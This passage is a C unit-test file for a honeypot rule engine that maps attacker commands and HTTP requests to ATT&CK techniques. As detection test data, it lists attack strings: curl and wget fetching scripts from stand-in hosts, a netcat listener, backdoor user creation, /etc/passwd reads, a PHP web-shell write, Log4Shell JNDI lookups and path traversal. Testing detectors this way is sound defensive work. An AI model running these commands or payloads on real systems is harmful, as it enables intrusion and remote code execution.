@@ -1,0 +1,1221 @@
+/*
+ * The rule_engine lifter, loaded through the real host (loader, rule
+ * store, dispatch, hostapi_run), against DECNET's RuleEngineTagger
+ * behaviour (decnet-lifters.md sections 1.7, 2.4, 2.5 and 3.0).  DECNET's
+ * rules are read from $TTPD_SHARED_DIR at run time.
+ *
+ * Every behaviour test runs in four configurations (JIT on/off, literal
+ * prefilter on/off): the answers must not depend on either.  The
+ * prefilter itself is also checked directly: it may only ever skip a
+ * search that could not have matched.
+ */
+#include "config.h"
+
+#include <check.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#define PCRE2_CODE_UNIT_WIDTH 8
+#include <pcre2.h>
+
+#include "conf.h"
+#include "hostapi.h"
+#include "json.h"
+#include "loader.h"
+#include "log.h"
+#include "plugin.h"
+#include "rules.h"
+#include "tag.h"
+#include "testutil.h"
+
+#include "../../plugins/rule_engine/prefilter.h"
+
+/* The configurations every behaviour test runs in (loop index). */
+static const char *const engine_configs[] = {
+	NULL,                                   /* defaults: JIT, prefilter */
+	"{\"jit\": false}",
+	"{\"prefilter\": false}",
+	"{\"jit\": false, \"prefilter\": false}",
+};
+#define N_CONFIGS (sizeof engine_configs / sizeof engine_configs[0])
+
+struct fx {
+	struct registry reg;
+	struct ruleset rules;
+	struct plugin *p;
+	char reports[4096];
+	int nreports;
+};
+
+static char *
+plugins_dir(void)
+{
+	char *dir;
+
+	ck_assert(asprintf(&dir, "%s/plugins/.libs",
+	    tu_env("TTPD_BUILDDIR")) > 0);
+	return dir;
+}
+
+static void
+fx_report(void *ud, const char *msg)
+{
+	struct fx *fx = ud;
+	size_t len = strlen(fx->reports);
+
+	snprintf(fx->reports + len, sizeof fx->reports - len, "%s\n", msg);
+	fx->nreports++;
+}
+
+/* Load the plugin with a JSON config (or none). */
+static void
+fx_open(struct fx *fx, const char *config_json)
+{
+	struct plugin_conf pc;
+	ttpd_value *config = NULL;
+	char err[1024], *dir = plugins_dir();
+
+	memset(fx, 0, sizeof *fx);
+	registry_init(&fx->reg);
+	ruleset_init(&fx->rules);
+	if (config_json != NULL) {
+		config = jv_parse(config_json, strlen(config_json), err,
+		    sizeof err);
+		ck_assert_msg(config != NULL, "%s", err);
+	}
+	memset(&pc, 0, sizeof pc);
+	pc.name = (char *)"rule_engine";
+	pc.config = config;
+	pc.origin = (char *)"check_rule_engine:1";
+	ck_assert_msg(loader_load(&fx->reg, dir, &pc, err, sizeof err) == 0,
+	    "%s", err);
+	registry_finish(&fx->reg);
+	fx->p = registry_find(&fx->reg, "rule_engine");
+	ck_assert(fx->p != NULL);
+	if (config != NULL)
+		jv_decref(config);
+	free(dir);
+}
+
+static void
+fx_close(struct fx *fx)
+{
+	registry_free(&fx->reg);        /* releases the rules first */
+	ruleset_free(&fx->rules);
+}
+
+static void
+fx_add_yaml(struct fx *fx, const char *yaml)
+{
+	char err[512];
+	struct rule *r;
+
+	r = rules_parse_buffer("inline.yaml", yaml, strlen(yaml), err,
+	    sizeof err);
+	ck_assert_msg(r != NULL, "%s", err);
+	ruleset_push(&fx->rules, r);
+}
+
+/* A rule in DECNET's format; field may be NULL (absent). */
+static void
+fx_add_rule(struct fx *fx, const char *id, const char *kinds,
+    const char *field, const char *pattern, const char *evidence)
+{
+	char yaml[2048];
+
+	snprintf(yaml, sizeof yaml,
+	    "rule_id: %s\n"
+	    "rule_version: 1\n"
+	    "name: test_%s\n"
+	    "applies_to: [%s]\n"
+	    "match:\n"
+	    "%s%s%s"
+	    "  pattern: '%s'\n"
+	    "emits:\n"
+	    "  - tactic: TA0007\n"
+	    "    technique_id: T1082\n"
+	    "    confidence: 0.7\n"
+	    "evidence_fields: [%s]\n",
+	    id, id, kinds, field != NULL ? "  field: '" : "",
+	    field != NULL ? field : "", field != NULL ? "'\n" : "", pattern,
+	    evidence != NULL ? evidence : "");
+	fx_add_yaml(fx, yaml);
+}
+
+static void
+fx_load_decnet(struct fx *fx)
+{
+	char *dir;
+	const char *dirs[1];
+
+	ck_assert(asprintf(&dir, "%s/reference/decnet/rules",
+	    tu_env("TTPD_SHARED_DIR")) > 0);
+	dirs[0] = dir;
+	ck_assert_int_eq(rules_load_dirs(dirs, 1, &fx->rules, fx_report, fx),
+	    0);
+	ck_assert_int_eq((int)fx->rules.n, 59);
+	free(dir);
+}
+
+static int
+fx_assign(struct fx *fx)
+{
+	return registry_assign_rules(&fx->reg, &fx->rules, fx_report, fx);
+}
+
+static int64_t
+now_ns(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_REALTIME, &ts);
+	return (int64_t)ts.tv_sec * 1000000000 + ts.tv_nsec;
+}
+
+/* Run one event (payload given as a value); tags appended to out. */
+static void
+fx_run_value(struct fx *fx, const char *kind, const ttpd_value *payload,
+    struct tag_list *out)
+{
+	struct tag_settings ts = { "v15.1" };
+	ttpd_event ev;
+
+	memset(&ev, 0, sizeof ev);
+	ev.size = sizeof ev;
+	ev.source_kind = kind;
+	ev.source_id = "check-1";
+	ev.attacker_uuid = "att-check";
+	ev.payload = payload;
+	ck_assert_int_eq(hostapi_run(fx->p, &ev, &ts, now_ns(), out),
+	    TTPD_OK);
+}
+
+static void
+fx_run_json(struct fx *fx, const char *kind, const char *payload_json,
+    struct tag_list *out)
+{
+	char err[256];
+	ttpd_value *payload;
+
+	payload = jv_parse(payload_json, strlen(payload_json), err,
+	    sizeof err);
+	ck_assert_msg(payload != NULL, "%s: %s", payload_json, err);
+	fx_run_value(fx, kind, payload, out);
+	jv_decref(payload);
+}
+
+/* The event {field: text}; 1 when rule_id fired on it. */
+static int
+fx_fires(struct fx *fx, const char *kind, const char *field,
+    const char *text, const char *rule_id)
+{
+	struct tag_list tags;
+	ttpd_value *payload = jv_new_object();
+	size_t i;
+	int hit = 0;
+
+	ck_assert(payload != NULL);
+	ck_assert_int_eq(jv_object_set_new(payload, field,
+	    jv_new_string(text, strlen(text))), TTPD_OK);
+	tag_list_init(&tags);
+	fx_run_value(fx, kind, payload, &tags);
+	for (i = 0; i < tags.n; i++)
+		if (strcmp(tags.v[i].rule_id, rule_id) == 0)
+			hit = 1;
+	tag_list_free(&tags);
+	jv_decref(payload);
+	return hit;
+}
+
+/* ---- DECNET's verified quirks (decnet-lifters.md 3.0) ---- */
+
+struct quirk {
+	const char *kind;
+	const char *field;
+	const char *text;
+	const char *rule_id;
+	int fires;
+};
+
+static const struct quirk quirks[] = {
+	/* R0018: \b after \s */
+	{ "command", "command_text", "lsb_release -a", "R0018", 0 },
+	{ "command", "command_text", "lsb_release", "R0018", 1 },
+	{ "command", "command_text", "hostnamectl", "R0018", 1 },
+	{ "command", "command_text", "uname -r", "R0018", 1 },
+	{ "command", "command_text", "cat /etc/issue", "R0018", 1 },
+	/* R0024 */
+	{ "command", "command_text", "useradd bob", "R0024", 1 },
+	{ "command", "command_text", "useradd -m -s /bin/bash backdoor",
+	    "R0024", 0 },
+	{ "command", "command_text", "adduser --gecos '' backdoor", "R0024",
+	    0 },
+	/* R0019: anchored at the string start only */
+	{ "command", "command_text", "  sudo whoami", "R0019", 1 },
+	{ "command", "command_text", "whoami", "R0019", 1 },
+	{ "command", "command_text", "ls; whoami", "R0019", 0 },
+	{ "command", "command_text", "whoami; id", "R0019", 0 },
+	{ "command", "command_text", "ID", "R0019", 0 },
+	{ "command", "command_text", "echo x\nwhoami", "R0019", 0 },
+	/* R0029 */
+	{ "command", "command_text", " sudo -l", "R0029", 1 },
+	{ "command", "command_text", "sudo su", "R0029", 1 },
+	{ "command", "command_text", "sudo -u root id", "R0029", 0 },
+	/* R0011 variants */
+	{ "command", "command_text", "python -c 'print(1)'", "R0011", 1 },
+	{ "command", "command_text", "perl -e 'print 1'", "R0011", 1 },
+	{ "command", "command_text", "node -e 'x'", "R0011", 1 },
+	{ "command", "command_text", "php -r 'x'", "R0011", 0 },
+	{ "command", "command_text", "bash -c 'id'", "R0011", 0 },
+	{ "command", "command_text", "sh -c id", "R0011", 0 },
+	{ "command", "command_text", "/bin/bash -c id", "R0011", 1 },
+	{ "command", "command_text", "/bin/bash -c id", "R0010", 1 },
+	{ "command", "command_text", "/bin/sh -c id", "R0011", 1 },
+	/* R0016: find / vs find . */
+	{ "command", "command_text", "find /", "R0016", 1 },
+	{ "command", "command_text", "find /etc/", "R0016", 1 },
+	{ "command", "command_text", "find .", "R0016", 0 },
+	{ "command", "command_text", "find /usr/bin -perm /4000", "R0015",
+	    1 },
+	{ "command", "command_text", "find /usr/bin -perm /4000", "R0016",
+	    1 },
+	/* R0017 */
+	{ "command", "command_text", "nc -zv 10.0.0.1 22", "R0017", 1 },
+	{ "command", "command_text", "NMAP -sV 10.0.0.1", "R0017", 1 },
+	{ "command", "command_text", "nc -lvnp 4444", "R0017", 0 },
+	/* R0012 */
+	{ "command", "command_text", "curl -fsSL https://x.example/i.sh",
+	    "R0012", 1 },
+	{ "command", "command_text", "wget -O- http://x.example/a", "R0012",
+	    1 },
+	{ "command", "command_text", "curl -O file", "R0012", 1 },
+	/* R0013: \b fires at '-' and '.' */
+	{ "command", "command_text", "cat /etc/passwd-", "R0013", 1 },
+	{ "command", "command_text", "cat /etc/passwd.bak", "R0013", 1 },
+	{ "command", "command_text", "cat /etc/passwdx", "R0013", 0 },
+	/* R0025, R0027 */
+	{ "command", "command_text", "echo x > /etc/crontab", "R0025", 0 },
+	{ "command", "command_text", "printf '<?php eval(..);?>' > shell.php",
+	    "R0027", 0 },
+	{ "command", "command_text", "echo hi > /var/www/html/a.php",
+	    "R0027", 1 },
+	/* R0008: case-sensitive, nested lookups only as ${${...}:proto:// */
+	{ "http_request", "raw_url", "/?x=${JNDI:ldap://e.example/a}",
+	    "R0008", 0 },
+	{ "http_request", "raw_url", "/?x=${${lower:j}ndi:ldap://e/a}",
+	    "R0008", 0 },
+	{ "http_request", "raw_url", "/?x=${jndi:ldaps://e.example/a}",
+	    "R0008", 1 },
+	{ "http_request", "raw_url", "/?x=${jndi:rmi://e.example/a}",
+	    "R0008", 1 },
+	{ "http_request", "raw_url", "/?x=${${env:X}:ldap://e/a}", "R0008",
+	    1 },
+	/* R0009: two consecutive traversal units */
+	{ "http_request", "raw_url", "/../", "R0009", 0 },
+	{ "http_request", "raw_url", "/a/..%2f..%2fetc/passwd", "R0009", 1 },
+	{ "http_request", "raw_url", "/%2E%2E/%2e%2E%2F", "R0009", 1 },
+	/* R0007: word boundaries; '_' is a word character */
+	{ "http_request", "user_agent", "sqlmapper", "R0007", 0 },
+	{ "http_request", "user_agent", "nessus_scan", "R0007", 0 },
+	{ "http_request", "user_agent", "OpenVAS-VT", "R0007", 1 },
+	{ "http_request", "user_agent", "x-dirbuster-1.0", "R0007", 1 },
+	{ "http_request", "user_agent", "sqlmap/1.7#stable", "R0007", 1 },
+};
+
+START_TEST(test_decnet_quirks)
+{
+	struct fx fx;
+	size_t i;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_load_decnet(&fx);
+	ck_assert_int_eq(fx_assign(&fx), 0);
+	/* R0007-R0029 are the engine's; R0001-R0006, R0030+ are not */
+	ck_assert_int_eq((int)fx.p->nrules, 23);
+	for (i = 0; i < sizeof quirks / sizeof quirks[0]; i++) {
+		const struct quirk *q = &quirks[i];
+
+		ck_assert_msg(fx_fires(&fx, q->kind, q->field, q->text,
+		    q->rule_id) == q->fires, "config %d: %s on '%s' should %s",
+		    _i, q->rule_id, q->text, q->fires ? "fire" : "not fire");
+	}
+	fx_close(&fx);
+}
+END_TEST
+
+/* Tags, rule order and emit order for a line that fires two rules. */
+START_TEST(test_decnet_order_and_emits)
+{
+	struct fx fx;
+	struct tag_list tags;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_load_decnet(&fx);
+	ck_assert_int_eq(fx_assign(&fx), 0);
+	tag_list_init(&tags);
+	fx_run_json(&fx, "command",
+	    "{\"command_text\": \"find /usr/bin -perm /4000\"}", &tags);
+	/* R0015 (two emits, YAML order) then R0016 */
+	ck_assert_int_eq((int)tags.n, 3);
+	ck_assert_str_eq(tags.v[0].rule_id, "R0015");
+	ck_assert_str_eq(tags.v[0].technique_id, "T1083");
+	ck_assert_str_eq(tags.v[1].rule_id, "R0015");
+	ck_assert_str_eq(tags.v[1].technique_id, "T1548");
+	ck_assert_str_eq(tags.v[1].sub_technique_id, "T1548.001");
+	ck_assert(tags.v[1].confidence == 0.95);
+	ck_assert_str_eq(tags.v[2].rule_id, "R0016");
+	ck_assert(tags.v[2].confidence == 0.65);
+	tag_list_free(&tags);
+
+	/* events of kinds with no pattern rule produce nothing */
+	tag_list_init(&tags);
+	fx_run_json(&fx, "auth_attempt", "{\"username\": \"root\"}", &tags);
+	fx_run_json(&fx, "payload", "{\"payload_text\": \"whoami\"}", &tags);
+	ck_assert_int_eq((int)tags.n, 0);
+	tag_list_free(&tags);
+	fx_close(&fx);
+}
+END_TEST
+
+/* ---- evidence ---- */
+
+struct keys {
+	char names[16][32];
+	int n;
+};
+
+static int
+collect_key(void *ud, const char *key, const ttpd_value *val)
+{
+	struct keys *k = ud;
+
+	(void)val;
+	ck_assert_int_lt(k->n, 16);
+	snprintf(k->names[k->n++], sizeof k->names[0], "%s", key);
+	return 0;
+}
+
+/* Evidence keys of a tag in order, comma-joined into buf. */
+static const char *
+evidence_keys(const struct tag *t, char *buf, size_t len)
+{
+	char err[256];
+	ttpd_value *ev = jv_parse(t->evidence, strlen(t->evidence), err,
+	    sizeof err);
+	struct keys k;
+	int i;
+
+	ck_assert_msg(ev != NULL, "%s", err);
+	memset(&k, 0, sizeof k);
+	jv_object_foreach(ev, collect_key, &k);
+	buf[0] = '\0';
+	for (i = 0; i < k.n; i++) {
+		strncat(buf, i ? "," : "", len - strlen(buf) - 1);
+		strncat(buf, k.names[i], len - strlen(buf) - 1);
+	}
+	jv_decref(ev);
+	return buf;
+}
+
+START_TEST(test_aux_evidence)
+{
+	struct fx fx;
+	struct tag_list tags;
+	char keys[256];
+	char err[256];
+	ttpd_value *ev;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_add_rule(&fx, "TE001", "command", "command_text", "whoami",
+	    "command_text");
+	fx_add_rule(&fx, "TE002", "command", "command_text", "whoami",
+	    "user, command_text, missing");
+	fx_add_rule(&fx, "TE003", "http_request", "raw_url", "admin",
+	    "raw_url");
+	ck_assert_int_eq(fx_assign(&fx), 0);
+
+	/* payload order differs from uid,user,src,pwd on purpose */
+	tag_list_init(&tags);
+	fx_run_json(&fx, "command", "{\"pwd\": \"/root\", \"src\": "
+	    "\"192.0.2.7\", \"command_text\": \"whoami\", \"other\": 1, "
+	    "\"user\": \"root\", \"uid\": 0}", &tags);
+	ck_assert_int_eq((int)tags.n, 2);
+	ck_assert_str_eq(evidence_keys(&tags.v[0], keys, sizeof keys),
+	    "command_text,uid,user,src,pwd");
+	/* user already in the evidence: kept in place, not repeated */
+	ck_assert_str_eq(evidence_keys(&tags.v[1], keys, sizeof keys),
+	    "user,command_text,uid,src,pwd");
+	ev = jv_parse(tags.v[0].evidence, strlen(tags.v[0].evidence), err,
+	    sizeof err);
+	ck_assert(ev != NULL);
+	ck_assert_str_eq(jv_string(jv_object_get(ev, "src")), "192.0.2.7");
+	ck_assert_int_eq(jv_type(jv_object_get(ev, "uid")), TTPD_VT_INT);
+	jv_decref(ev);
+	tag_list_free(&tags);
+
+	/* absent aux keys are skipped, a null one is kept as null */
+	tag_list_init(&tags);
+	fx_run_json(&fx, "command", "{\"command_text\": \"whoami\", "
+	    "\"pwd\": null}", &tags);
+	ck_assert_int_eq((int)tags.n, 2);
+	ck_assert_str_eq(evidence_keys(&tags.v[0], keys, sizeof keys),
+	    "command_text,pwd");
+	ck_assert_str_eq(tags.v[0].evidence,
+	    "{\"command_text\":\"whoami\",\"pwd\":null}");
+	tag_list_free(&tags);
+
+	/* only command events get the aux keys */
+	tag_list_init(&tags);
+	fx_run_json(&fx, "http_request", "{\"raw_url\": \"/admin\", "
+	    "\"user\": \"root\", \"src\": \"192.0.2.7\"}", &tags);
+	ck_assert_int_eq((int)tags.n, 1);
+	ck_assert_str_eq(evidence_keys(&tags.v[0], keys, sizeof keys),
+	    "raw_url");
+	tag_list_free(&tags);
+	fx_close(&fx);
+}
+END_TEST
+
+/* ---- fields ---- */
+
+START_TEST(test_non_string_field)
+{
+	static const char *const payloads[] = {
+		"{\"command_text\": 42}",
+		"{\"command_text\": [\"whoami\"]}",
+		"{\"command_text\": {\"a\": \"whoami\"}}",
+		"{\"command_text\": null}",
+		"{\"command_text\": true}",
+		"{\"other\": \"whoami\"}",
+		"{}",
+	};
+	struct fx fx;
+	struct tag_list tags;
+	size_t i;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_add_rule(&fx, "TF001", "command", "command_text", "whoami|42|true",
+	    "command_text");
+	ck_assert_int_eq(fx_assign(&fx), 0);
+	tag_list_init(&tags);
+	for (i = 0; i < sizeof payloads / sizeof payloads[0]; i++) {
+		fx_run_json(&fx, "command", payloads[i], &tags);
+		ck_assert_msg(tags.n == 0, "tag on %s", payloads[i]);
+	}
+	fx_run_json(&fx, "command", "{\"command_text\": \"whoami\"}", &tags);
+	ck_assert_int_eq((int)tags.n, 1);
+	tag_list_free(&tags);
+	fx_close(&fx);
+}
+END_TEST
+
+/* A falsy or absent match.field means the event kind's default field. */
+START_TEST(test_default_fields)
+{
+	static const struct {
+		const char *kind, *field;
+	} defaults[] = {
+		{ "command", "command_text" },
+		{ "http_request", "raw_url" },
+		{ "auth_attempt", "username" },
+		{ "payload", "payload_text" },
+	};
+	struct fx fx;
+	size_t i;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_add_rule(&fx, "TD001", "command, http_request, auth_attempt, "
+	    "payload", NULL, "needle", NULL);
+	fx_add_rule(&fx, "TD002", "command, http_request, auth_attempt, "
+	    "payload", "", "needle", NULL);
+	/* no pattern at all: accepted, never fires */
+	fx_add_yaml(&fx, "rule_id: TD003\nrule_version: 1\nname: x\n"
+	    "applies_to: [command]\nmatch: {field: command_text}\n"
+	    "emits: [{tactic: TA0007, technique_id: T1082, "
+	    "confidence: 0.7}]\n");
+	ck_assert_int_eq(fx_assign(&fx), 0);
+	ck_assert_int_eq((int)fx.p->nrules, 3);
+	for (i = 0; i < sizeof defaults / sizeof defaults[0]; i++) {
+		ck_assert(fx_fires(&fx, defaults[i].kind, defaults[i].field,
+		    "a needle here", "TD001"));
+		ck_assert(fx_fires(&fx, defaults[i].kind, defaults[i].field,
+		    "a needle here", "TD002"));
+		ck_assert(!fx_fires(&fx, defaults[i].kind, "elsewhere",
+		    "a needle here", "TD001"));
+	}
+	ck_assert(!fx_fires(&fx, "command", "command_text", "", "TD003"));
+	ck_assert(!fx_fires(&fx, "command", "command_text", "anything",
+	    "TD003"));
+	fx_close(&fx);
+}
+END_TEST
+
+START_TEST(test_max_subject_bytes)
+{
+	struct fx fx;
+
+	fx_open(&fx, "{\"max_subject_bytes\": 16}");
+	fx_add_rule(&fx, "TM001", "command", "command_text", "whoami", NULL);
+	ck_assert_int_eq(fx_assign(&fx), 0);
+	ck_assert(fx_fires(&fx, "command", "command_text",
+	    "0123456789whoami", "TM001"));              /* 16 bytes */
+	ck_assert(!fx_fires(&fx, "command", "command_text",
+	    "0123456789 whoami", "TM001"));             /* 17 bytes */
+	fx_close(&fx);
+}
+END_TEST
+
+START_TEST(test_bad_config)
+{
+	static const char *const bad[] = {
+		"{\"match_limit\": 0}",
+		"{\"depth_limit\": -1}",
+		"{\"heap_limit_kib\": 5000000000}",
+		"{\"max_subject_bytes\": 0}",
+		"{\"jit\": \"yes\"}",
+	};
+	struct registry reg;
+	struct plugin_conf pc;
+	char err[1024], *dir = plugins_dir();
+	size_t i;
+
+	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+		ttpd_value *config = jv_parse(bad[i], strlen(bad[i]), err,
+		    sizeof err);
+
+		ck_assert(config != NULL);
+		registry_init(&reg);
+		memset(&pc, 0, sizeof pc);
+		pc.name = (char *)"rule_engine";
+		pc.config = config;
+		pc.origin = (char *)"check_rule_engine:1";
+		err[0] = '\0';
+		ck_assert_msg(loader_load(&reg, dir, &pc, err, sizeof err) ==
+		    -1, "accepted %s", bad[i]);
+		ck_assert_msg(err[0] != '\0', "no message for %s", bad[i]);
+		registry_free(&reg);
+		jv_decref(config);
+	}
+	free(dir);
+}
+END_TEST
+
+/* ---- rule preparation ---- */
+
+START_TEST(test_invalid_pattern_rejected)
+{
+	struct fx fx;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_add_rule(&fx, "TP001", "command", "command_text", "(unclosed",
+	    NULL);
+	fx_add_rule(&fx, "TP002", "command", "command_text", "a{2,1}", NULL);
+	fx_add_rule(&fx, "TP003", "command", "command_text", "fine", NULL);
+	ck_assert_int_eq(fx_assign(&fx), 2);
+	ck_assert_int_eq(fx.nreports, 2);
+	ck_assert_msg(strstr(fx.reports, "rule TP001: rejected by plugin "
+	    "rule_engine: pattern: missing closing parenthesis at offset 9")
+	    != NULL, "%s", fx.reports);
+	ck_assert_msg(strstr(fx.reports, "rule TP002: rejected by plugin "
+	    "rule_engine: pattern: numbers out of order in {} quantifier at "
+	    "offset 5") != NULL, "%s", fx.reports);
+	/* the good rule still works */
+	ck_assert_int_eq((int)fx.p->nrules, 1);
+	ck_assert(fx_fires(&fx, "command", "command_text", "fine", "TP003"));
+	fx_close(&fx);
+}
+END_TEST
+
+/* ---- limits ---- */
+
+/* Run fn with stderr going to a file; returns what was written. */
+static char *
+capture_stderr(void (*fn)(void *), void *ud)
+{
+	char *dir = tu_mkdtemp(), path[512], *text;
+	int fd, saved;
+
+	snprintf(path, sizeof path, "%s/stderr", dir);
+	fflush(stderr);
+	saved = dup(2);
+	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
+	ck_assert(saved >= 0 && fd >= 0);
+	dup2(fd, 2);
+	close(fd);
+	fn(ud);
+	fflush(stderr);
+	dup2(saved, 2);
+	close(saved);
+	text = tu_read_file(path, NULL);
+	ck_assert(text != NULL);
+	tu_rmtree(dir);
+	free(dir);
+	return text;
+}
+
+static size_t
+count_of(const char *hay, const char *needle)
+{
+	size_t n = 0;
+
+	while ((hay = strstr(hay, needle)) != NULL) {
+		n++;
+		hay += strlen(needle);
+	}
+	return n;
+}
+
+struct catastrophic {
+	struct fx *fx;
+	char *subject;
+	int fired;
+};
+
+static void
+run_catastrophic(void *ud)
+{
+	struct catastrophic *c = ud;
+
+	/* twice: the second complaint is rate-limited away */
+	c->fired += fx_fires(c->fx, "command", "command_text", c->subject,
+	    "TL001");
+	c->fired += fx_fires(c->fx, "command", "command_text", c->subject,
+	    "TL001");
+	c->fired += fx_fires(c->fx, "command", "command_text", c->subject,
+	    "TL002");
+}
+
+START_TEST(test_catastrophic_pattern)
+{
+	struct catastrophic c;
+	struct fx fx;
+	char *log;
+
+	fx_open(&fx, engine_configs[_i]);
+	fx_add_rule(&fx, "TL001", "command", "command_text", "(a+)+$", NULL);
+	fx_add_rule(&fx, "TL002", "command", "command_text", "(a|aa)+$",
+	    NULL);
+	fx_add_rule(&fx, "TL003", "command", "command_text", "b$", NULL);
+	ck_assert_int_eq(fx_assign(&fx), 0);
+	c.fx = &fx;
+	c.fired = 0;
+	c.subject = malloc(30002);
+	ck_assert(c.subject != NULL);
+	memset(c.subject, 'a', 30000);
+	strcpy(c.subject + 30000, "b");
+	log = capture_stderr(run_catastrophic, &c);
+	ck_assert_int_eq(c.fired, 0);
+	ck_assert_msg(count_of(log, "rule TL001: search abandoned") == 1,
+	    "%s", log);
+	ck_assert_msg(count_of(log, "rule TL002: search abandoned") == 1,
+	    "%s", log);
+	ck_assert_msg(strstr(log, "limit") != NULL, "%s", log);
+	free(log);
+	/* the other rule on the same event is unaffected */
+	ck_assert(fx_fires(&fx, "command", "command_text", c.subject,
+	    "TL003"));
+	/* and a harmless subject still matches the limited rules */
+	ck_assert(fx_fires(&fx, "command", "command_text", "aaaa", "TL001"));
+	free(c.subject);
+	fx_close(&fx);
+}
+END_TEST
+
+/* ---- Unicode (Python str semantics: UTF + UCP) ---- */
+
+struct uni {
+	const char *pattern;
+	const char *text;
+	int fires;
+};
+
+static const struct uni unicode_cases[] = {
+	{ "(?i)ssh", "\xc5\xbf\xc5\xbfh", 1 },          /* U+017F long s */
+	{ "ssh", "\xc5\xbf\xc5\xbfh", 0 },              /* case-sensitive */
+	{ "(?i)\\bkill\\b", "\xe2\x84\xaaILL -9", 1 },  /* U+212A Kelvin */
+	{ "(?i)passwd", "PA\xc5\xbfSWD", 1 },
+	{ "^\\w+$", "caf\xc3\xa9", 1 },                 /* e-acute is \w */
+	{ "caf\\b", "caf\xc3\xa9", 0 },                 /* so no boundary */
+	{ "a\\sb", "a\xc2\xa0" "b", 1 },                /* NBSP is \s */
+	{ "a\\sb", "a\xe2\x80\x83" "b", 1 },            /* EM SPACE */
+	{ "^.{4}$", "\xf0\x9f\x98\x80\xc3\xa9x\xe2\x82\xac", 1 }, /* chars */
+	{ "(?i)\xc3\xa9t\xc3\xa9", "\xc3\x89T\xc3\x89", 1 }, /* E-acute */
+};
+
+START_TEST(test_unicode)
+{
+	struct fx fx;
+	size_t i;
+
+	for (i = 0; i < sizeof unicode_cases / sizeof unicode_cases[0];
+	    i++) {
+		const struct uni *u = &unicode_cases[i];
+		char yaml[1024];
+
+		fx_open(&fx, engine_configs[_i]);
+		/* single-quoted YAML keeps the backslashes */
+		snprintf(yaml, sizeof yaml, "rule_id: TU001\nrule_version: 1\n"
+		    "name: u\napplies_to: [command]\nmatch:\n"
+		    "  field: command_text\n  pattern: '%s'\n"
+		    "emits: [{tactic: TA0007, technique_id: T1082, "
+		    "confidence: 0.7}]\n", u->pattern);
+		fx_add_yaml(&fx, yaml);
+		ck_assert_int_eq(fx_assign(&fx), 0);
+		ck_assert_msg(fx_fires(&fx, "command", "command_text",
+		    u->text, "TU001") == u->fires, "config %d: /%s/ on "
+		    "case %zu should %s", _i, u->pattern, i,
+		    u->fires ? "match" : "not match");
+		fx_close(&fx);
+	}
+}
+END_TEST
+
+/* ---- the prefilter on its own ---- */
+
+static char *
+literals_joined(const char *pattern, int *rc)
+{
+	struct pf_literals lits;
+	char *out = calloc(1, 4096);
+	size_t i;
+
+	ck_assert(out != NULL);
+	*rc = pf_extract(pattern, strlen(pattern), &lits);
+	for (i = 0; i < lits.n; i++) {
+		strcat(out, i ? "|" : "");
+		strcat(out, lits.v[i]);
+	}
+	pf_literals_free(&lits);
+	return out;
+}
+
+START_TEST(test_pf_extract)
+{
+	static const struct {
+		const char *pattern;
+		int rc;
+		const char *literals;
+	} cases[] = {
+		{ "\\b(cat|less)\\s+(?:[^|;]*\\s)?/etc/passwd\\b", 1,
+		    "/etc/passwd" },
+		{ "(?i)Foo", 1, "foo" },
+		{ "ab?c", 1, "abc|ac" },
+		{ "ab*c", 1, "a" },             /* "a", "c": first kept */
+		{ "abc*", 1, "ab" },
+		{ "(?:ab){2,}x", 1, "ab" },
+		{ "a|bc", 1, "a|bc" },
+		{ "a|.", 0, "" },               /* one branch knows nothing */
+		{ "x(?=abc)y", 1, "xy" },       /* lookahead consumes nothing */
+		{ "\\$\\{", 1, "${" },
+		{ "\\${[^}]*}", 1, "${" },      /* literal braces */
+		{ "a{3}", 1, "a" },
+		{ "^$", 0, "" },
+		{ "", 0, "" },
+		{ ".*", 0, "" },
+		{ "[abc]+", 0, "" },
+		{ "(?#note)word", 1, "word" },
+		{ "(?<name>abc)", 1, "abc" },
+		{ "(?P<n>abc)d", 1, "abcd" },
+		{ "(?i:AB)c", 1, "abc" },
+		{ "[]x]yz", 1, "yz" },
+		{ "[[:alpha:]]yz", 1, "yz" },
+		/* not understood: give up */
+		{ "a{,3}b", 0, "" },
+		{ "a{ 2}b", 0, "" },
+		{ "\\x41bc", 0, "" },
+		{ "(a)\\1", 0, "" },
+		{ "(?x) a b c", 0, "" },
+		{ "\\Qabc\\E", 0, "" },
+		{ "(?(1)a|b)", 0, "" },
+		{ "(*UCP)abc", 0, "" },
+		{ "caf\xc3\xa9", 0, "" },
+		{ "\\p{L}abc", 0, "" },
+		{ "a(?R)?b", 0, "" },
+		{ "ab)", 0, "" },
+	};
+	size_t i;
+
+	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		int rc;
+		char *got = literals_joined(cases[i].pattern, &rc);
+
+		ck_assert_msg(rc == cases[i].rc, "/%s/: rc %d",
+		    cases[i].pattern, rc);
+		ck_assert_msg(strcmp(got, cases[i].literals) == 0,
+		    "/%s/: got '%s', want '%s'", cases[i].pattern, got,
+		    cases[i].literals);
+		free(got);
+	}
+}
+END_TEST
+
+/*
+ * The one property the filter must have: whenever PCRE2 matches, the
+ * pattern's literal bit is set.  Checked for a pattern on a subject.
+ */
+static void
+assert_superset(const char *pattern, const struct pf_automaton *a,
+    pcre2_code *code, pcre2_match_data *md, const char *s, size_t n)
+{
+	uint64_t hits[1] = { 0 };
+
+	if (pcre2_match(code, (PCRE2_SPTR)s, n, 0, 0, md, NULL) < 0)
+		return;
+	pf_scan(a, (const unsigned char *)s, n, hits);
+	ck_assert_msg(hits[0] & 1, "/%s/ matches '%.*s' but its literals "
+	    "were not seen", pattern, (int)n, s);
+}
+
+static pcre2_code *
+compile(const char *pattern)
+{
+	PCRE2_SIZE off;
+	int err;
+	pcre2_code *code;
+
+	code = pcre2_compile((PCRE2_SPTR)pattern, PCRE2_ZERO_TERMINATED,
+	    PCRE2_UTF | PCRE2_UCP, &err, &off, NULL);
+	if (code != NULL)
+		(void)pcre2_jit_compile(code, PCRE2_JIT_COMPLETE);
+	return code;
+}
+
+/* Every string in a golden event, also upper-cased and with s/k folds. */
